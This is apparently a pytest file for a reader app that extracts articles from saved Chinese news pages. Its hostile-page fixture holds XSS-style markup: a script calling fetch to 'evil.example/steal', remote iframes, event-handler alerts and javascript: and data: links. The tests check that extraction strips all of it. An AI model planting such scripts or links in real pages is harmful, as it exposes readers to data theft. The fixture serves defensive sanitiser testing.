"""Saved web pages → articles: the ten real pages, and hostile pages generated here.

Nothing here fetches anything: the real pages are read from ../shared/web-pages (skipped where
it is absent), the rest are made from the bundled articles' text (`web_fixtures`).
"""

from __future__ import annotations

import json
import re
import socket
import struct
import zlib

import opencc
import pytest

from reader.core.content.render import render_markdown
from reader.core.errors import ContentError
from reader.core.importers.decoding import decode_page
from reader.core.importers.webpage import extract_page
from tests.conftest import WEB_PAGES, need_web_pages

from .web_fixtures import STRUCTURE_PAGE, link_list_page, news_page

PAGES = json.loads((WEB_PAGES / "pages.json").read_text(encoding="utf-8")) if (WEB_PAGES / "pages.json").exists() else []
# without the folder, one placeholder case, so need_web_pages() skips it, or fails it in CI (an empty
# parameter set would be skipped silently)
PAGE_CASES = PAGES or [{"file": "(no ../shared/web-pages)"}]


def squash(text: str) -> str:
    return re.sub(r"\s+", "", text)


def visible_text(markdown: str) -> str:
    """What a reader sees of the Markdown, whitespace removed."""
    return squash("".join(b.text for b in render_markdown(markdown).blocks))


@pytest.fixture
def no_network(monkeypatch):
    """Any attempt to connect fails the test."""
    def refuse(*args, **kwargs):
        raise AssertionError(f"a network connection was attempted: {args[1:] if len(args) > 1 else kwargs}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


# -- the ten real pages --------------------------------------------------------------------------

@pytest.mark.parametrize("page", PAGE_CASES, ids=[p["file"] for p in PAGE_CASES])
def test_real_page_is_extracted_fully_right(page, no_network):
    need_web_pages()
    got = extract_page((WEB_PAGES / page["file"]).read_bytes(), page["file"])
    text = visible_text(got.markdown)
    assert got.title == page["title"]
    assert got.date == (page["date"] or "")
    missing = [m for m in page["must"] if squash(m) not in text]
    leaked = [d for d in page["must_not"] if squash(d) in text]
    assert not missing and not leaked, f"missing {missing}, leaked {leaked}"
    assert "javascript:" not in got.markdown and "<script" not in got.markdown.lower()


def test_real_pages_metadata():
    need_web_pages()
    by_file = {p["file"]: extract_page((WEB_PAGES / p["file"]).read_bytes(), p["file"]) for p in PAGES}
    assert by_file["sina-1.html"].source_url == "https://news.sina.com.cn/c/2019-11-25/doc-iihnzahi3275702.shtml"
    assert by_file["gamersky-1.html"].source_url == "https://ol.gamersky.com/news/201909/1220000.shtml"
    assert by_file["sina-1.html"].outlet == "新浪新闻"
    assert by_file["cjn-1.html"].outlet == "长江网"
    assert by_file["wechat-1.html"].author == "kingname"
    assert by_file["thepaper-1.html"].author == "贺梨萍"  # from the visible byline, which is dropped
    assert "贺梨萍" not in by_file["thepaper-1.html"].markdown.split("\n\n")[0]
    assert any("gb2312" in w for w in by_file["163-2.html"].warnings)  # declared gb2312, is UTF-8
    assert all(p.encoding == "utf-8" for p in by_file.values())


def test_wechat_code_blocks_stay_code():
    need_web_pages()
    got = extract_page((WEB_PAGES / "wechat-1.html").read_bytes(), "wechat-1.html")
    assert "```" in got.markdown
    assert any(b.kind == "code" or "<pre" in render_markdown(got.markdown).html for b in render_markdown(got.markdown).blocks)


# -- generated pages: chrome around the bundled articles ----------------------------------------

@pytest.mark.parametrize("stem", ["xinzhiyuan-agi-decade", "ghosts-not-animals", "aitnt-simulators", "dwarkesh-notes"])
@pytest.mark.parametrize("layout", ["div", "table"])
def test_generated_news_page_keeps_the_article_and_drops_the_chrome(stem, layout, no_network):
    page = news_page(stem, layout=layout)
    got = extract_page(page.html.encode("utf-8"), "page.html")
    text = visible_text(got.markdown)
    assert got.title == page.title and got.date == page.date
    assert got.outlet == "示例日报" and got.source_url == "https://news.example.cn/2025/10/20/123.html"
    assert [m for m in page.must if squash(m) not in text] == []
    assert [d for d in page.must_not if d in got.markdown] == []
    assert "责任编辑" not in got.markdown and "首页 >" not in got.markdown


@pytest.mark.parametrize("codec, label", [("gb18030", "utf-8"), ("gb18030", "big5"), ("big5", "gb2312"), ("big5", "")])
def test_chinese_encodings_under_a_wrong_label(codec, label):
    page = news_page("ghosts-not-animals", charset=label or "x")
    html = page.html if label else page.html.replace('<meta http-equiv="Content-Type" content="text/html; charset=x">', "")
    if codec == "big5":
        to_hant = opencc.OpenCC("s2t")
        html = to_hant.convert(html)
        page.title, page.must = to_hant.convert(page.title), [to_hant.convert(m) for m in page.must]
    raw = html.encode(codec, "replace" if codec == "big5" else "strict")
    assert decode_page(raw, "p.html").encoding in ({"gb18030"} if codec == "gb18030" else {"big5", "big5hkscs"})
    got = extract_page(raw, "p.html")
    text = visible_text(got.markdown)
    assert got.title == page.title
    assert all(squash(m).replace("?", "") in text.replace("?", "") for m in page.must if "?" not in m)
    if label:
        assert any(label in w for w in got.warnings)


def test_utf16_and_bom_pages():
    page = news_page(paragraphs=4)
    for raw in (page.html.encode("utf-16"), page.html.encode("utf-8-sig"), page.html.encode("utf-16-le")):
        assert extract_page(raw, "p.html").title == page.title


# -- hostile pages -------------------------------------------------------------------------------

HOSTILE = """<html><head><meta charset="utf-8"><title>一篇正常的文章_站点</title>
<script>fetch("https://evil.example/steal")</script></head>
<body onload="alert('load')">
<h1>一篇正常的文章</h1>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x.swf"></object>
<div class="content">
<p onclick="alert('click')">第一段正文，讲述了一件很平常的事情，内容足够长，足以被认为是文章的一部分。</p>
<p><img src="https://img.evil.example/a.png" alt="一张远程图片的说明" onerror="alert('img')"></p>
<p>第二段正文里有一个<a href="javascript:alert('x')">危险链接</a>和一个<a href="https://example.org/ok">正常链接</a>。</p>
<p>第三段正文<svg onload="alert('svg')"><script>alert('inner')</script></svg>继续讲述，<style>p{color:red}</style>直到结束。</p>
<p><a href="JaVaScRiPt:alert(1)">另一个</a><a href="data:text/html,<script>alert(1)</script>">数据链接</a>结尾。</p>
</div></body></html>"""


def test_scripts_frames_handlers_and_javascript_links_leave_nothing(no_network):
    got = extract_page(HOSTILE.encode("utf-8"), "hostile.html")
    md = got.markdown
    for bad in ("alert", "javascript", "evil.example", "onerror", "onclick", "onload", "<script", "<iframe",
                "data:text", "<svg", "color:red", "fetch("):
        assert bad.lower() not in md.lower(), bad
    assert "一张远程图片的说明" in md  # the image is its alt text, never its URL
    assert "[正常链接](<https://example.org/ok>)" in md
    assert "危险链接" in md and "数据链接" in md
    assert got.title == "一篇正常的文章"


def test_extraction_makes_no_connection(no_network):
    extract_page(news_page().html.encode("utf-8"), "remote.html")  # remote images, scripts, frames, canonical


def test_a_list_of_links_is_no_article():
    with pytest.raises(ContentError, match=r"links\.html: no article"):
        extract_page(link_list_page().encode("utf-8"), "links.html")


def test_empty_file():
    for raw in (b"", b"   \n\r\n\t"):
        with pytest.raises(ContentError, match="empty.html: the file is empty"):
            extract_page(raw, "empty.html")


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


@pytest.mark.parametrize("raw, what", [(_png(), "PNG image"), (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "PDF"),
                                       (b"PK\x03\x04\x14\x00\x00\x00" + bytes(40), "zip"),
                                       (bytes(range(256)) * 8, "binary")])
def test_binary_data_named_html_is_refused_clearly(raw, what):
    with pytest.raises(ContentError, match=rf"photo\.html: .*{what}.*not a web page"):
        extract_page(raw, "photo.html")


def test_text_without_markup_is_not_a_page():
    with pytest.raises(ContentError, match="not a web page"):
        extract_page("只是一段文字，没有任何标记。".encode("utf-8") * 20, "note.html")


def test_mixed_line_endings():
    page = news_page(paragraphs=6)
    lines = page.html.split("\n")
    raw = "".join(line + ("\r\n", "\r", "\n")[i % 3] for i, line in enumerate(lines)).encode("utf-8")
    got = extract_page(raw, "mixed.html")
    assert "\r" not in got.markdown
    assert got.title == page.title
    assert all(squash(m) in visible_text(got.markdown) for m in page.must)


def test_invalid_utf8_in_the_middle_is_replaced_not_misread():
    page = news_page(paragraphs=10)
    raw = page.html.encode("utf-8")
    middle = raw.index(page.must[1].encode("utf-8")) - 40
    middle -= next(i for i in range(4) if raw[middle - i] < 0x80 or raw[middle - i] >= 0xC0)  # a character boundary
    raw = raw[:middle] + b"\xff\xfe\x80" + raw[middle:]
    decoded = decode_page(raw, "bad.html")
    assert decoded.encoding == "utf-8" and any("replaced" in w for w in decoded.warnings)
    got = extract_page(raw, "bad.html")
    assert got.title == page.title
    assert all(squash(m) in visible_text(got.markdown) for m in page.must)


def test_markdown_structure_survives():
    md = extract_page(STRUCTURE_PAGE.encode("utf-8"), "s.html").markdown
    assert "## 第一节" in md
    assert "- 第一项\n- 第二项\n   - 嵌套项" in md and "3. 三\n4. 四" in md
    assert "> 引用的第一段。\n>\n> 引用的第二段。" in md
    assert "**粗体**" in md and "*斜体*" in md and "`代码`" in md and "\\*星号\\*" in md
    assert "```\ndef f():\n    return 1\n```" in md
    assert "| 城市 | 人口（万） |\n| --- | --- |\n| 北京 | 2185 |" in md
    assert "# 结构测试" not in md  # the headline is the title, not repeated in the body
